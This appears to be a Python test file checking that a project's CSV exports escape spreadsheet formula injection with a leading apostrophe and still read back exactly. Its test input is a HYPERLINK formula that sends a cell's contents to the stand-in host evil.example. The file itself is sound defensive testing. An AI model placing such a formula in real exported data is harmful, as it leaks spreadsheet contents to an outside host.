"""No text of anybody's runs as a formula in a table that people open, and none is lost by that."""

from __future__ import annotations

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from cuttings.actor_table import parse_actors, print_actors
from cuttings.cells import guarded, unguarded
from cuttings.evidence import Row, parse_rows, print_rows
from cuttings.model import Actor, Kind
from cuttings.resolve.authority_file import read_authority
from cuttings.site.open_data.formats import as_csv, as_json_lines
from cuttings.site.open_data.tables import Column, Table

FORMULA = """=HYPERLINK("http://evil.example/?"&A1,"read")"""


@pytest.mark.parametrize("cell", [FORMULA, "+1 said", "-said", "@sum", "\t=1", "'=1", "''=1", "=1+1"])
def test_a_cell_that_is_a_formula_begins_with_an_apostrophe(cell: str) -> None:
    assert guarded(cell) == f"'{cell}"


@pytest.mark.parametrize("cell", ["-97.00000", "+3", "-1,5", "O'Hara", "'tis", "", "a=1"])
def test_a_number_and_plain_words_stay_as_they_are(cell: str) -> None:
    assert guarded(cell) == cell


@given(st.text(st.sampled_from("'=+-@\t1a ")))
def test_a_guarded_cell_is_read_as_it_was(cell: str) -> None:
    assert unguarded(guarded(cell)) == cell


def cells_of(table: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(table)) for cell in row]


def test_evidence_and_actors_are_guarded_and_read_as_they_were() -> None:
    row = Row(3, "cut", FORMULA, "", "rule", FORMULA)
    actor = Actor("people/roe", Kind.PERSON, FORMULA, variants=("-a", "b"), note="@b", latitude=-3.0, longitude=1.0)
    tables = [print_rows([row]), print_actors([actor])]
    assert parse_rows(tables[0]) == (row,)
    assert parse_actors(tables[1]) == {actor.id: actor}
    assert [cell for table in tables for cell in cells_of(table) if cell.startswith(("=", "@", "-a"))] == []
    assert "-3.00000" in cells_of(tables[1])


def test_a_row_copied_to_the_authority_file_means_what_it_meant() -> None:
    actor = Actor("people/roe", Kind.PERSON, FORMULA, variants=("-a",))
    (record,) = read_authority(print_actors([actor]), "authority.csv").records.values()
    assert (record.name, record.variants) == (FORMULA, ("-a",))


def test_open_data_is_guarded_as_csv_and_exact_as_json_lines() -> None:
    table = Table("t", "t", (Column("a", "a"), Column("n", "n", "number")), "a", lambda _: [(FORMULA, -1.5)])
    assert cells_of(as_csv(table, None)) == ["a", "n", f"'{FORMULA}", "-1.50000"]  # type: ignore[arg-type]
    assert FORMULA[:10] in as_json_lines(table, None)  # type: ignore[arg-type]
